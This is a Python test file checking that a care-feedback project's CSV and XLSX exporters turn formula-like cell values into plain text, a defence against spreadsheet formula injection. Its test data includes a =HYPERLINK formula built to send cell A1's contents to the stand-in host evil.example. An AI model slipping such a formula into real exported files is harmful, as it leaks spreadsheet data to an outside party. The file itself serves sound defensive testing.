"""Exported text never runs as a spreadsheet formula (OWASP CSV injection, issue 14's gap)."""

from __future__ import annotations

import csv
import importlib
import io
from typing import Any

from careloop.reports.export import to_csv, to_xlsx
from careloop.reports.query import ResultTable

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _table() -> ResultTable:
    return ResultTable(columns=["comment", "delta", "word"],
                       rows=[{"comment": HOSTILE, "delta": -3, "word": "@SUM(1+1)"},
                             {"comment": "＝1+1", "delta": 2.5, "word": "-2+3"},
                             {"comment": "护士很耐心", "delta": None, "word": "+86"}])


def test_csv_cells_that_start_like_a_formula_are_text() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_table()))))
    assert rows[1] == ["'" + HOSTILE, "-3", "'@SUM(1+1)"]
    assert rows[2] == ["'＝1+1", "2.5", "'-2+3"]
    # plain text and numbers are untouched; a negative number stays a number
    assert rows[3] == ["护士很耐心", "n/a", "'+86"]


def test_xlsx_text_is_never_stored_as_a_formula() -> None:
    book: Any = importlib.import_module("openpyxl").load_workbook(io.BytesIO(to_xlsx(_table())))
    ws = book.active
    assert ws["A2"].value == HOSTILE and ws["A2"].data_type == "s"
    assert ws["B2"].value == -3 and ws["B2"].data_type == "n"
